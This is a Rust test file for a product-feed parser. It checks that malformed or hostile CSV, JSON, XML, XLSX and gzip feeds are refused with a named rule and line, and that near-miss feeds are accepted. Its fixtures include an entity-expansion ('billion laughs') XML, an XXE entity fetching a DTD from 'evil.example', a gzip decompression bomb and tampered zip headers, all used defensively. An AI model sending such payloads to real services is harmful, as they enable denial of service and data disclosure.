//! Feeds that are refused as a whole, each with its reason and where it has one its line.

#![allow(clippy::unwrap_used, reason = "a test")]

mod support;

use partners::feeds::{Event, REFUSALS};
use std::collections::BTreeSet;
use support::{gzip, items, refusal, zip};

const CONTRACT: &str = "sku,name,price_cents\n";

fn utf16(text: &str, big: bool) -> Vec<u8> {
    text.encode_utf16().flat_map(|unit| if big { unit.to_be_bytes() } else { unit.to_le_bytes() }).collect()
}

/// The bytes with others at a distance from every `mark`.
fn behind_every(mark: &[u8], distance: usize, others: &[u8], mut bytes: Vec<u8>) -> Vec<u8> {
    let places: Vec<usize> = (0..bytes.len()).filter(|at| bytes[*at..].starts_with(mark)).collect();
    for at in places {
        bytes[at + distance..][..others.len()].copy_from_slice(others);
    }
    bytes
}

/// Every feed that is refused: under which name it is sent, by which rule, and in which line.
fn cases() -> Vec<(Vec<u8>, &'static str, &'static str, Option<u64>)> {
    let text = |text: &str| text.as_bytes().to_vec();
    let deep = |open: &str, close: &str| text(&format!("{}{}", open.repeat(100), close.repeat(100)));
    let long = "x".repeat(200_000);
    let wide = |separator: &str| (0..1_200).map(|at| format!("h{at}")).collect::<Vec<_>>().join(separator);
    let members: Vec<String> = (0..1_200).map(|at| format!("\"m{at}\":1")).collect();
    let attributes: String = (0..1_200).map(|at| format!(" a{at}=\"1\"")).collect();
    let mut cut = gzip(format!("{CONTRACT}{}", "A,Mug,1\n".repeat(50)).as_bytes());
    cut.truncate(cut.len() - 9);
    let mut damaged = gzip(format!("{CONTRACT}{}", "A,Mug,1\n".repeat(50)).as_bytes());
    let checksum = damaged.len() - 8;
    damaged[checksum] ^= 0xff;
    let bomb = gzip(&[CONTRACT.as_bytes(), &vec![b'\n'; 8_000_000]].concat());
    let billion = "<!DOCTYPE a [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\">]><items><item><id>&b;</id></item></items>";
    let late = [format!("{CONTRACT}A,é,1\n{}", "B,b,1\n".repeat(4_000)).as_bytes(), b"C,\xff,1\n"].concat();
    let sheet = |rows: &str| {
        zip(&[("[Content_Types].xml", b"<T/>"), ("xl/worksheets/sheet1.xml", format!("<worksheet>{rows}").as_bytes())])
    };
    let cell = |reference: &str, value: &str| format!("<row><c r=\"{reference}\"><v>{value}</v></c></row>");
    let half_sheet = support::spreadsheet(&[&["sku", "name"], &["A", "B"]]);
    // By bzip2, in the files' own headers and in the table of contents.
    let packed_otherwise = behind_every(b"PK\x03\x04", 8, &[12, 0], half_sheet.clone());
    let packed_otherwise = behind_every(b"PK\x01\x02", 10, &[12, 0], packed_otherwise);
    let cut_texts = zip(&[
        ("[Content_Types].xml", b"<T/>"),
        ("xl/sharedStrings.xml", b"<sst><si><t>sku</si>"),
        ("xl/worksheets/sheet1.xml", b"<worksheet/>"),
    ]);
    vec![
        (text(""), "a.csv", "empty_feed", None),
        (text("  \n\t \r\n"), "a.csv", "empty_feed", None),
        (text("\u{feff}"), "a.json", "empty_feed", None),
        (text("# only a comment\n"), "a.csv", "empty_feed", Some(1)),
        (text("sku,name,price_cents"), "a.csv", "no_rows", Some(1)),
        (text("sku,name,price_cents\n\n\n,,\n"), "a.csv", "no_rows", Some(5)),
        (text("[]"), "a.json", "no_rows", Some(1)),
        (text("{\"products\": [], \"page\": 1}"), "a.json", "no_rows", Some(1)),
        (text("<yml_catalog><shop>\n<offers/></shop></yml_catalog>"), "a.yml", "no_rows", Some(2)),
        (text("id,Destination ID,Origin ID,Flight price\n1,A,B,3 EUR\n"), "a.csv", "wrong_kind", Some(2)),
        (text("hotel_id;name;price\n1;Ritz;300 EUR\n"), "a.csv", "wrong_kind", Some(2)),
        (text("id,title,price,vin,body_style\n1,Car,1 EUR,X,SUV\n"), "a.csv", "wrong_kind", Some(2)),
        (text("<feed>\n<hotel><id>1</id></hotel></feed>"), "a.xml", "wrong_kind", Some(2)),
        (text("<!DOCTYPE html><p>Log in"), "a.csv", "not_a_feed", None),
        (text("<?xml version=\"1.0\"?><html><body/></html>"), "a.xml", "not_a_feed", None),
        (b"\x89PNG\r\n\x1a\n\0\0\0".to_vec(), "a.csv", "not_a_feed", None),
        (b"%PDF-1.7 sku,name".to_vec(), "a.csv", "not_a_feed", None),
        (vec![1, 2, 0, 9, 0, 0, 7, 200], "a.csv", "not_a_feed", None),
        (text("Dear shop, please find our products on our site.\nBye\n"), "a.csv", "not_a_feed", None),
        (text("Dear shop\n"), "letter.csv", "not_a_feed", None),
        (text("word\n"), "letter", "not_a_feed", None),
        (zip(&[("feed.csv", CONTRACT.as_bytes())]), "a.zip", "archive", None),
        (gzip(&gzip(CONTRACT.as_bytes())), "a.csv.gz", "archive", None),
        (b"Rar!\x1a\x07\x01\0".to_vec(), "a.csv", "archive", None),
        (text("[1, 2]"), "a.json", "not_records", Some(1)),
        (text("[{\"sku\": 1}, []]"), "a.json", "not_records", Some(1)),
        (text("[[\"sku\"]]"), "a.json", "not_records", Some(1)),
        (text("colour,length\nred,5\n"), "a.csv", "no_known_columns", Some(2)),
        (text("title\nMug\n"), "a.csv", "no_known_columns", Some(2)),
        (text("{\"colour\": \"red\"}"), "a.json", "no_known_columns", Some(1)),
        (text("{}"), "a.json", "no_known_columns", Some(1)),
        (text("<offers><offer id=\"A\"><vendor>V</vendor></offer></offers>"), "a.xml", "no_known_columns", Some(1)),
        (text("[{\"sku\": \"A\",\n \"name\": \"M"), "a.json", "truncated", Some(2)),
        (text("[{\"sku\": \"A\"},"), "a.json", "truncated", Some(1)),
        (text("{\"sku\": \"A\""), "a.json", "truncated", Some(1)),
        (text("<items><item><id>1</id>\n"), "a.xml", "truncated", Some(2)),
        (text("<items><item><id>1</id></item>\n<ite"), "a.xml", "truncated", Some(2)),
        (cut, "a.csv.gz", "truncated", None),
        (half_sheet[..half_sheet.len() - 30].to_vec(), "a.xlsx", "truncated", None),
        (damaged, "a.csv.gz", "damaged", None),
        // Its table of contents says that the files begin where none does.
        (behind_every(b"PK\x01\x02", 42, &[7, 0, 0, 0], half_sheet.clone()), "a.xlsx", "damaged", None),
        (packed_otherwise, "a.xlsx", "damaged", None),
        (text("sku,name,price_cents\nA,\"Mug,1\nB,Mug,2\n"), "a.csv", "unclosed_quote", Some(2)),
        (text("sku,name,price_cents\n\"A\",\"B\"\"\nC,\"\"\n"), "a.csv", "unclosed_quote", Some(2)),
        (text(&format!("sku,name,price_cents\nA,\"Mug\n{long}")), "a.csv", "unclosed_quote", Some(2)),
        (text("sku,name,price_cents\nA,\""), "a.csv", "unclosed_quote", Some(2)),
        (text(&format!("sku,name,price_cents\nA,B,1\nC,{long},2\n")), "a.csv", "field_too_large", Some(3)),
        (text(&format!("[{{\"sku\":\"A\",\"name\":\"{long}\"}}]")), "a.json", "field_too_large", Some(1)),
        (
            text(&format!("<items><item><id>1</id><title>{long}</title></item></items>")),
            "a.xml",
            "field_too_large",
            Some(1),
        ),
        (text(&format!("<items><item id=\"{long}\"/></items>")), "a.xml", "field_too_large", Some(1)),
        (sheet(&cell("A1", &long)), "a.xlsx", "field_too_large", Some(1)),
        (
            text(&format!("sku,name{}\nA,B\n", format!(",{}", "x".repeat(100_000)).repeat(12))),
            "a.csv",
            "record_too_large",
            Some(1),
        ),
        (text(&format!("[{{\"a\":[{}1]}}]", "\"xxxxxxxxx\",".repeat(100_000))), "a.json", "record_too_large", Some(1)),
        (
            text(&format!("{{{}\"a\":1}}", format!("\"b\":\"{}\",", "x".repeat(100_000)).repeat(12))),
            "a.json",
            "record_too_large",
            Some(1),
        ),
        (
            text(&format!("[{{\"{}\":[{}1]}}]", "k".repeat(500_000), "1,".repeat(900))),
            "a.json",
            "record_too_large",
            Some(1),
        ),
        (
            text(&format!("<items><!--{}--><item/></items>", "x".repeat(1_200_000))),
            "a.xml",
            "record_too_large",
            Some(1),
        ),
        (
            text(&format!("<items><item>{}</item></items>", format!("<a>{}</a>", "x".repeat(100_000)).repeat(12))),
            "a.xml",
            "record_too_large",
            Some(1),
        ),
        (text(&format!("{}\nA\n", wide(","))), "a.csv", "too_many_fields", Some(1)),
        (text(&format!("[{{{}}}]", members.join(","))), "a.json", "too_many_fields", Some(1)),
        (
            text(&format!("<items><item>{}</item></items>", "<a>1</a>".repeat(1_200))),
            "a.xml",
            "too_many_fields",
            Some(1),
        ),
        (text(&format!("<items><item{attributes}/></items>")), "a.xml", "too_many_fields", Some(1)),
        (text(&format!("{CONTRACT}{}", ",".repeat(1_000))), "a.csv", "too_many_fields", Some(2)),
        (sheet(&cell("ZZZ1", "1")), "a.xlsx", "too_many_fields", Some(1)),
        (deep("[", "]"), "a.json", "too_deep", Some(1)),
        (deep("{\"a\":", "}"), "a.json", "too_deep", Some(1)),
        (text(&format!("[{{\"sku\":{}1{}}}]", "[".repeat(11), "]".repeat(11))), "a.json", "too_deep", Some(1)),
        (deep("<a>", "</a>"), "a.xml", "too_deep", Some(1)),
        (text(&format!("<items><item>{}", "<a>".repeat(11))), "a.xml", "too_deep", Some(1)),
        (text(&format!("<items><item><d>{}", "<p>".repeat(11))), "a.xml", "too_deep", Some(1)),
        (bomb, "a.csv.gz", "unpacks_too_large", None),
        (late, "a.csv", "invalid_encoding", Some(4_003)),
        (b"[{\"sku\":\"\xff\"}]".to_vec(), "a.json", "invalid_encoding", Some(1)),
        (
            b"<?xml version=\"1.0\" encoding=\"utf-8\"?><items><item><id>\xff</id></item></items>".to_vec(),
            "a.xml",
            "invalid_encoding",
            Some(1),
        ),
        (
            [b"\xff\xfe".to_vec(), utf16(CONTRACT, false), vec![0, 0xd8, b'x', 0]].concat(),
            "a.csv",
            "invalid_encoding",
            Some(2),
        ),
        (text("<?xml version=\"1.0\" encoding=\"klingon\"?><items/>"), "a.xml", "unknown_encoding", Some(1)),
        (text(billion), "a.xml", "doctype_entities", Some(1)),
        (
            text("<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://evil.example/x.dtd\"> %x;]><items/>"),
            "a.xml",
            "doctype_entities",
            Some(1),
        ),
        (text("<items><item>\n<id>&nbsp;</id></item></items>"), "a.xml", "unknown_entity", Some(2)),
        (sheet(&cell("A1", "&nbsp;")), "a.xlsx", "unknown_entity", Some(1)),
        (text("<items><item><id>1</di></item></items>"), "a.xml", "xml_syntax", Some(1)),
        (text("<items><item><id>1</id><param name=\"&bad;\">2</param></item></items>"), "a.xml", "xml_syntax", Some(1)),
        (sheet(&format!("{}<row></worksheet>", cell("A1", "sku"))), "a.xlsx", "xml_syntax", Some(2)),
        (cut_texts, "a.xlsx", "xml_syntax", None),
        (text("<items><item id=1><id>1</id></item></items>"), "a.xml", "xml_syntax", Some(1)),
        (text("<items><item id=\"&bad;\"/></items>"), "a.xml", "xml_syntax", Some(1)),
        (text("<items><category id=\"&bad;\"/></items>"), "a.xml", "xml_syntax", Some(1)),
        (text("<items><item><id>&#x110000;</id></item></items>"), "a.xml", "xml_syntax", Some(1)),
        (text("<items><item><id>1</id></item></items><items/>"), "a.xml", "xml_syntax", Some(1)),
        (text("<items><item><id>1</id></item></items>\nrest"), "a.xml", "xml_syntax", Some(2)),
        (text("[{\"sku\": \"A\",}]"), "a.json", "json_syntax", Some(1)),
        (text("[{\"sku\": \"A\"}\n{\"sku\": \"B\"}]"), "a.json", "json_syntax", Some(2)),
        (text("[{\"sku\": \"A\"}] x"), "a.json", "json_syntax", Some(1)),
        (text("{\"sku\": \"A\"} {\"sku\": \"B\"}"), "a.json", "json_syntax", Some(1)),
        (text("{\"sku\" \"A\"}"), "a.json", "json_syntax", Some(1)),
        (text("{\"a\":1, 5: 2}"), "a.json", "json_syntax", Some(1)),
        (text("{\"a\":1, b: 2}"), "a.json", "json_syntax", Some(1)),
        (text("{\"a\":tru}"), "a.json", "json_syntax", Some(1)),
        (text("[{\"a\":{\"b\":\"\\ud800\"}}]"), "a.json", "json_syntax", Some(1)),
        (text("[{\"sku\":\"A\",\"variants\":[{\"price\":\"\\ud800\"}]}]"), "a.json", "json_syntax", Some(1)),
        (text("{\"products\":[{\"sku\":\"A\"}],\"page\" 1}"), "a.json", "json_syntax", Some(1)),
        (text("{\"products\":[{\"sku\":\"A\"}],page:1}"), "a.json", "json_syntax", Some(1)),
        (text("{\"products\":[{\"sku\":\"A\"}],\"page\":tru}"), "a.json", "json_syntax", Some(1)),
        (text("{\"products\":[{\"sku\":\"A\"}]]"), "a.json", "json_syntax", Some(1)),
        (text("{\"sku\":\"A\"}\n{\"sku\":B}"), "a.json", "json_syntax", Some(2)),
        (text("[{\"sku\": \"\\ud800\"}]"), "a.json", "json_syntax", Some(1)),
        (text("[{\"sku\": 01}]"), "a.json", "json_syntax", Some(1)),
        (zip(&[("[Content_Types].xml", b"<T/>")]), "a.xlsx", "empty_feed", None),
        (sheet(""), "a.xlsx", "empty_feed", Some(1)),
        (sheet(&cell("A1", "sku")), "a.xlsx", "no_rows", Some(1)),
    ]
}

/// For every rule a feed that comes close to breaking it and is read to its end.
fn close_cases() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let text = |text: &str| text.as_bytes().to_vec();
    let row = |members: &str| text(&format!("[{{\"sku\":\"A\",\"name\":\"Mug\",\"price_cents\":1{members}}}]"));
    let item = |prolog: &str, rest: &str| {
        text(&format!("{prolog}<items><item id='A'><title>Mug</title><price>1 EUR</price>{rest}</item></items>"))
    };
    let table = |rows: &str| text(&format!("{CONTRACT}{rows}"));
    let wide: String = (4..=1_000).map(|at| format!(",h{at}")).collect();
    let large =
        |count: usize| (0..count).map(|at| format!(",\"m{at}\":\"{}\"", "x".repeat(100_000))).collect::<String>();
    vec![
        ("empty_feed", text(&format!("\u{feff}\n# a comment\n{CONTRACT}A,Mug,1")), "a.csv"),
        ("no_rows", table("\n\n,,\nA,Mug,1\n"), "a.csv"),
        ("wrong_kind", text("id,title,price,vin\nA,Toy car,1 EUR,1\n"), "a.csv"),
        ("not_a_feed", table("A,<!DOCTYPE html><html>,1\n"), "a.csv"),
        ("archive", gzip(&table("A,Mug,1\n")), "a.csv.gz"),
        ("not_records", text("{\"items\": [{\"sku\": \"A\", \"name\": \"Mug\", \"price_cents\": 1}]}"), "a.json"),
        ("no_known_columns", text("colour,sku,price_cents,length,name\nred,A,1,5,Mug\n"), "a.csv"),
        ("truncated", gzip(&table(&"A,Mug,1\n".repeat(50))), "a.csv.gz"),
        ("damaged", [gzip(&table("A,Mug,1\n")), gzip(b"B,Mug,1\n")].concat(), "a.csv.gz"),
        ("too_deep", row(&format!(",\"d\":{}1{}", "[".repeat(10), "]".repeat(10))), "a.json"),
        ("record_too_large", row(&large(10)), "a.json"),
        ("field_too_large", row(&format!(",\"d\":\"{}\"", "x".repeat(128 * 1024))), "a.json"),
        ("too_many_fields", text(&format!("sku,name,price_cents{wide}\nA,Mug,1\n")), "a.csv"),
        ("unpacks_too_large", gzip(&[CONTRACT.as_bytes(), b"A,Mug,1", &vec![b'\n'; 1_000_000]].concat()), "a.csv.gz"),
        ("unclosed_quote", table("A,\"Mug, 3\"\"\nof tin\",1\n"), "a.csv"),
        ("invalid_encoding", b"sku,name,price_cents\nA,Caf\xe9,1\n".to_vec(), "a.csv"),
        ("unknown_encoding", item("<?xml version=\"1.0\" encoding=\"windows-1251\"?>", ""), "a.xml"),
        ("doctype_entities", item("<!DOCTYPE items SYSTEM \"items.dtd\">", ""), "a.xml"),
        ("unknown_entity", item("", "<brand>&lt;&#233;<![CDATA[&nbsp;]]></brand>"), "a.xml"),
        ("xml_syntax", item("", "<brand a=\"&amp;\"/><stock>1</stock >"), "a.xml"),
        ("json_syntax", row(",\"brand\":\"\\ud83d\\ude00\",\"stock\" : -0"), "a.json"),
    ]
}

// Proves: S4-T2, S4-U2b
#[test]
fn a_feed_that_cannot_be_read_is_refused_by_name_and_line() {
    for (bytes, name, rule, line) in cases() {
        let shown = String::from_utf8_lossy(&bytes[..bytes.len().min(80)]).into_owned();
        let refusal = refusal(&bytes, name).unwrap_or_else(|| panic!("{rule}: {shown} was taken"));
        assert_eq!(refusal.rule.name, rule, "{shown}: {refusal}");
        assert!(!refusal.detail.is_empty() && !refusal.rule.hint.is_empty());
        if line.is_some() {
            assert_eq!(refusal.line, line, "{rule}: {shown}");
        }
    }
}

// Proves: S4-T2
#[test]
fn a_feed_that_only_comes_close_to_a_fault_is_read_to_its_end() {
    for (rule, bytes, name) in close_cases() {
        let verdict = support::verdict(&bytes, name, None).unwrap_or_else(|refusal| panic!("{rule}: {refusal}"));
        assert_eq!((verdict.refusal, verdict.rejections), (None, Vec::new()), "{rule}");
        assert!(verdict.accepted > 0, "{rule}");
    }
}

// Proves: S4-T2
#[test]
fn every_reason_for_refusing_a_feed_has_its_cases() {
    let broken: BTreeSet<&str> = cases().iter().map(|(_, _, rule, _)| *rule).collect();
    let close: BTreeSet<&str> = close_cases().iter().map(|(rule, ..)| *rule).collect();
    for mut tested in [broken, close] {
        // Where the source and the limits are at hand: the conformance suite.
        tested.extend(["read_failed", "too_many_rows"]);
        assert_eq!(tested, REFUSALS.iter().map(|rule| rule.name).collect());
    }
}

// Proves: S4-S2b
#[test]
fn good_rows_before_the_fault_stay_good_and_nothing_comes_after_it() {
    let events = support::events(b"sku,name,price_cents\nA,Mug,1\nB,\"Mug,1\n", "a.csv", None).unwrap();
    assert_eq!(items(&events).len(), 1);
    assert!(matches!(events.last(), Some(Event::Broken(_))));
    let broken = events.iter().filter(|event| matches!(event, Event::Broken(_))).count();
    assert_eq!(broken, 1);
}

// Proves: S4-S2b
#[test]
fn a_fault_is_told_within_100_ms_of_being_read() {
    for (bytes, name, rule, _) in cases() {
        let started = std::time::Instant::now();
        refusal(&bytes, name);
        let taken = started.elapsed();
        // Those of many megabytes take their time to be read at all.
        assert!(taken.as_millis() < 100 || bytes.len() > 500_000 || rule == "unpacks_too_large", "{rule}: {taken:?}");
    }
}
